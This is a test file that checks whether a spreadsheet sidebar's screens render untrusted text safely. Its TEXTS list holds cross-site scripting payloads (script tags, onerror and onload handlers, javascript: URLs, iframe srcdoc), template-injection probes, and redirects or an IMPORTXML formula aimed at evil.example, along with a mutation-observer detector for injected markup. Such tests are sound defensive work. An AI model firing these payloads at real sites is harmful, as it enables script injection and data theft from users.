/** What strangers wrote, on every screen of the sidebar: text, and nothing that runs, loads, leads away or spills over. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Scenario } from '../../sidebar/fake-door';
import { button, type OpenedSidebar, openSidebars } from '../../sidebar/opened-sidebar';
import { isLong } from '../long';
import { SHORT_TEXTS } from './texts';

/** By it a text is known again. */
const MARK = '☠';

const RUNNING = 'window.struck=1';
const DOLLAR = '$';

const TEXTS: readonly string[] = [
  `<script>${RUNNING}</script>`,
  `</script><script>${RUNNING}</script>`,
  `<img src=x onerror="${RUNNING}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload="${RUNNING}"><script>${RUNNING}</script></svg>`,
  `<svg><animate onbegin=${RUNNING} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUNNING}</script>"></iframe>`,
  `<iframe src="javascript:${RUNNING}"></iframe>`,
  `<body onload=${RUNNING}><input autofocus onfocus=${RUNNING}>`,
  `<details open ontoggle=${RUNNING}><summary>x</summary></details>`,
  `<style>@import url(https://evil.example/a.css);*{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action=https://evil.example><button>Connect</button></form>`,
  `<a href="javascript:${RUNNING}" target=_top>Open</a>`,
  `javascript:${RUNNING}`,
  `data:text/html,<script>${RUNNING}</script>`,
  `https://evil.example/?key=`,
  `" onmouseover="${RUNNING}" x="`,
  `' autofocus onfocus='${RUNNING}`,
  `\`${DOLLAR}{${RUNNING}}\``,
  `{{constructor.constructor("${RUNNING}")()}}`,
  `${DOLLAR}{7*7} #{7*7} <%= 7*7 %> {{7*7}} [[7*7]]`,
  `<!--`,
  `-->`,
  `]]><![CDATA[`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNNING}>`,
  `\u202egnihtyreve sesrever siht`,
  `\u2067\u202e\u2066 no end of it`,
  `مرحبا <b>bold</b> שלום`,
  'W'.repeat(10_000),
  'nospace'.repeat(1_500),
  '\u200b'.repeat(500),
  'Z\u0351\u0363\u0345a\u034el\u0338g\u0328o'.repeat(40),
  '=IMPORTXML("https://evil.example","//a")',
  '&lt;script&gt;&#60;b&#62;&amp;',
  'line\nline\r\nline\u2028line\ttab\u0000nul\u0007bell',
  'half \ud83d of a pair',
  '__proto__',
  'constructor',
  '[object Object]',
  '',
  ' ',
].map((text) => text + MARK);

/** Tells of whatever a text must never become, as soon as it is in the page. */
const GUARD = `
  window.grown = [];
  const SEEN = 'script,iframe,frame,object,embed,applet,link,base,meta,img,video,audio,style,math,animate,area,'
    + 'a[href],form[action],[srcdoc],[formaction]';
  const judge = (one) => {
    if (one.matches(SEEN)) window.grown.push(one.outerHTML.slice(0, 100));
    for (const { name, value } of one.attributes) {
      const isWay = /^(href|src|action|formaction|style|xlink:href)$/i.test(name) && /^\\s*(javascript|data|https?):/i.test(value);
      if (/^on/i.test(name) || isWay) window.grown.push(name + '=' + value.slice(0, 100));
    }
  };
  const judgeAll = (node) => { if (node.querySelectorAll) for (const one of [node, ...node.querySelectorAll('*')]) judge(one); };
  const page = document.querySelector('#page');
  judgeAll(page);
  new MutationObserver((records) => {
    for (const { addedNodes, target, attributeName } of records) attributeName ? judge(target) : addedNodes.forEach(judgeAll);
  }).observe(document, { subtree: true, childList: true, attributes: true });
`;

const LOOK = `({
  struck: window.struck ?? null,
  grown: window.grown,
  title: document.title,
  address: location.href,
  frames: window.length,
  scripts: document.scripts.length,
  isWide: document.documentElement.scrollWidth > 300
    || [...document.querySelectorAll('main')].some((main) => main.scrollWidth > main.clientWidth),
  isCut: [...document.querySelectorAll('button, h1')].some((one) => one.getBoundingClientRect().right > 301),
})`;

const CLEAN = {
  struck: null,
  grown: [],
  title: 'Reachsheet',
  address: 'http://sidebar.localhost/',
  frames: 0,
  scripts: 1,
  isWide: false,
  isCut: false,
};

let sidebars: OpenedSidebar;
const dialogs: string[] = [];
const journeys: string[] = [];

beforeAll(async () => {
  sidebars = await openSidebars();
});
afterAll(async () => {
  await sidebars.close();
  expect(sidebars.faults).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(journeys).toEqual([]);
});

async function expectClean(page: Page, where: string): Promise<void> {
  expect(await page.evaluate(LOOK), where).toEqual(CLEAN);
}

/** What is shown and spoken of a screen holds texts of strangers. */
async function expectShown(page: Page, where: string): Promise<void> {
  await expect.poll(() => page.locator('body').innerText(), { message: where }).toContain(MARK);
  await expectClean(page, where);
}

const FAILURE = { kind: 'service', message: 'x' } as const;
type Walk = (page: Page, look: (where: string) => Promise<void>) => Promise<void>;

async function toFields(page: Page): Promise<void> {
  await button(page, 'New import').click();
  // Whatever they are called: the third is that of clips.
  await page.getByRole('searchbox', { name: 'Search data' }).waitFor();
  await page.locator('.layer:not([hidden]) section li button').nth(2).click();
  await page.getByRole('combobox', { name: 'Campaign' }).waitFor();
}

async function toReady(page: Page, look: (where: string) => Promise<void>): Promise<void> {
  await toFields(page);
  await page.getByRole('combobox', { name: 'Community' }).click();
  await page.getByRole('option').nth(1).waitFor();
  await look('communities');
  await page.getByRole('option').nth(1).click();
  await page.getByRole('combobox', { name: 'Campaign' }).click();
  await page.getByRole('option').nth(1).waitFor();
  await look('campaigns');
  await page.getByRole('option').first().click();
  await look('what');
  await button(page, 'Choose columns').click();
  await page.locator('.column').first().waitFor();
  await look('columns');
  await button(page, 'Choose where').click();
  await page.getByLabel('Name of the import').waitFor();
  await page.getByLabel('From the selected cell on').click();
  await page.getByLabel('Schedule').selectOption('week');
  await look('where and how');
  await button(page, 'Preview').click();
  await page.getByRole('region', { name: 'First rows' }).waitFor();
  await look('ready');
}

const WALKS: Readonly<Record<string, readonly [Scenario, Walk]>> = {
  home: [
    {},
    async (page, look) => {
      await button(page, 'More').first().click();
      await look('home');
      await button(page, 'Delete').click();
      await look('delete?');
    },
  ],
  'home, in a copied file': [
    { isCopied: true },
    async (page, look) => {
      await look('found');
      await button(page, 'Restore them').click();
      await button(page, 'Take over').first().waitFor();
      await look('restored');
    },
  ],
  'home, not to be had': [
    { errors: { home: FAILURE } },
    async (page, look) => {
      await button(page, 'Try again').waitFor();
      await look('failure');
    },
  ],
  connect: [
    {},
    async (page, look) => {
      await button(page, /^Campaigns/).click();
      await button(page, 'Test').click();
      await page.getByRole('checkbox').nth(3).waitFor();
      await look('connect');
    },
  ],
  wizard: [
    {},
    async (page, look) => {
      await button(page, 'New import').click();
      await look('data');
      await button(page, 'Cancel').click();
      await toReady(page, look);
      await button(page, 'Import').click();
      await button(page, 'Go to the table').waitFor();
      await look('done');
    },
  ],
  'wizard, that fails': [
    { errors: { price: FAILURE, saveImport: FAILURE, choices: FAILURE } },
    async (page, look) => {
      await toFields(page);
      await page.getByRole('combobox', { name: 'Community' }).click();
      await look('no names');
    },
  ],
  'an import edited': [
    {},
    async (page, look) => {
      await button(page, 'Edit').first().click();
      await button(page, 'Choose columns').waitFor();
      await look('edited');
    },
  ],
  'a run that fails': [
    { runEnds: FAILURE },
    async (page, look) => {
      await button(page, 'Run now').first().click();
      await button(page, 'Try again').first().waitFor();
      await look('failed');
    },
  ],
  history: [
    {},
    async (page, look) => {
      await button(page, 'More').first().click();
      await button(page, 'History').click();
      await page.getByText('Stopped').waitFor();
      await look('history');
    },
  ],
  functions: [
    {},
    async (page, look) => {
      await button(page, 'Functions').click();
      await page.locator('summary').first().click();
      await look('functions');
    },
  ],
};

/** Each time other texts come first, so that others stand where a screen shows one alone. */
const TURNS = isLong ? TEXTS.length : 2;
const turned = (by: number): readonly string[] => [...TEXTS.slice(by), ...TEXTS.slice(0, by)];

async function walk(scenario: Scenario, strangers: readonly string[], act: Walk): Promise<void> {
  const page = await sidebars.open({ ...scenario, strangers });
  try {
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('framenavigated', (frame) => journeys.push(frame.url()));
    page.on('popup', (popup) => journeys.push(popup.url()));
    await page.evaluate(GUARD);
    await act(page, (where) => expectShown(page, where));
    await expectClean(page, 'at last');
  } finally {
    await page.close();
  }
}

describe.each(Object.keys(WALKS))('%s', (name) => {
  test('shows what strangers wrote as text', async () => {
    const [scenario, act] = WALKS[name] ?? expect.fail();
    for (let turn = 0; turn < TURNS; turn += 1) {
      await walk(scenario, turned(Math.floor((turn * TEXTS.length) / TURNS)), act);
    }
  });
});

test('every text of the list can be the name of a campaign', async () => {
  const named = SHORT_TEXTS.map((text) => text + MARK);
  const campaigns = Math.ceil(named.length / 2);
  await walk({ campaigns }, named, async (page, look) => {
    await toFields(page);
    await page.getByRole('combobox', { name: 'Campaign' }).click();
    for (let shown = 100; shown < campaigns; shown += 100) {
      await page.getByText(`${shown} so far`).waitFor();
      await button(page, 'Load more').click();
    }
    await expect.poll(() => page.getByRole('option').count()).toBe(campaigns);
    await look('campaigns');
  });
});

test('the guard sees markup that is put in as such', async () => {
  const page = await sidebars.open();
  await page.evaluate(GUARD);
  await page.evaluate(
    `document.querySelector('main').insertAdjacentHTML('beforeend', '<b onclick="1">x</b><img>')`,
  );
  await expect.poll(() => page.evaluate('window.grown.length')).toBeGreaterThan(1);
  await page.close();
});
